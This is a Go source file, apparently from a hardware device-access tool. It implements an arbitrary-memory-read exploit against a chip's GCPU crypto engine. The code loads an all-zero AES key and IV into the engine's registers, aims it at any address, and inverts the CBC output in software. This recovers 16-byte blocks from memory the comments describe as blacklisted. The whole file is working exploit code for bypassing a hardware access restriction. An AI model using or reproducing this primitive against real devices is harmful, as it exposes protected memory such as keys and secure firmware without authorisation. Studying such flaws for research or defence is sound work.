// internal/hwcrypto/gcpu.go
// GCPU (Graphics Crypto) arbitrary-memory-read primitive (spec.md §4.7):
// the engine's AES-CBC path with an all-zero key and IV, aimed at an
// arbitrary source address, produces a deterministic transform of that
// memory which the host can invert to recover the plaintext — an
// unintended read primitive, not real encryption. AES-CBC itself is
// stdlib's crypto/aes + crypto/cipher; no third-party library in the pack
// offers a better block-cipher primitive than the standard library's own.
package hwcrypto

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
)

// GCPU register offsets relative to a chip's GCPUBase (spec.md §4.7).
const (
	gcpuOffControl = 0x00
	gcpuOffKeySlot = 0x04 // 4 words
	gcpuOffIVSlot  = 0x14 // 4 words
	gcpuOffSrcAddr = 0x24
	gcpuOffResult  = 0x28 // 4 words, D_CBC output slot

	gcpuControlInit    = 0x1
	gcpuControlExecCBC = 0x2
)

// GCPU drives a chip's GCPU register block to recover 16-byte blocks from
// an otherwise-blacklisted address.
type GCPU struct {
	IO   RegisterIO
	Base uint32
}

// NewGCPU constructs a GCPU engine bound to base.
func NewGCPU(io RegisterIO, base uint32) *GCPU {
	return &GCPU{IO: io, Base: base}
}

// Init prepares the engine for D_CBC execution. The key and IV slots are
// zeroed afterwards by ReadBlock (through setZeroSlot), completing the
// "init → set key slot → set IV slot" sequence.
func (g *GCPU) Init(ctx context.Context) error {
	return g.IO.Write32(ctx, g.Base+gcpuOffControl, gcpuControlInit)
}

func (g *GCPU) setZeroSlot(ctx context.Context, off uint32) error {
	for i := uint32(0); i < 4; i++ {
		if err := g.IO.Write32(ctx, g.Base+off+i*4, 0); err != nil {
			return err
		}
	}
	return nil
}

// ReadBlock recovers 16 bytes of memory at target by executing D_CBC with
// source=target and inverting the engine's all-zero-key/IV AES-CBC
// transform in software (spec.md §4.7).
func (g *GCPU) ReadBlock(ctx context.Context, target uint32) ([16]byte, error) {
	var out [16]byte
	if err := g.setZeroSlot(ctx, gcpuOffKeySlot); err != nil {
		return out, err
	}
	if err := g.setZeroSlot(ctx, gcpuOffIVSlot); err != nil {
		return out, err
	}
	if err := g.IO.Write32(ctx, g.Base+gcpuOffSrcAddr, target); err != nil {
		return out, err
	}
	if err := g.IO.Write32(ctx, g.Base+gcpuOffControl, gcpuControlExecCBC); err != nil {
		return out, err
	}

	transformed, err := readWords(ctx, g.IO, g.Base+gcpuOffResult, 4)
	if err != nil {
		return out, err
	}
	plain := InvertZeroKeyCBC(transformed)
	copy(out[:], plain)
	return out, nil
}

// InvertZeroKeyCBC reverses the all-zero-key, all-zero-IV AES-CBC
// decryption GCPU's D_CBC performs, recovering the 16 memory bytes that
// were fed in as the single-block "source" (spec.md §4.7). CBC with a
// zero IV on a single block is plain ECB, so encrypting transformed with
// the same zero key inverts it exactly.
func InvertZeroKeyCBC(transformed []byte) []byte {
	var zeroKey [16]byte
	block, err := aes.NewCipher(zeroKey[:])
	if err != nil {
		panic(err) // aes.NewCipher only fails on bad key length, which zeroKey never is
	}
	var zeroIV [16]byte
	enc := cipher.NewCBCEncrypter(block, zeroIV[:])
	out := make([]byte, 16)
	enc.CryptBlocks(out, transformed[:16])
	return out
}
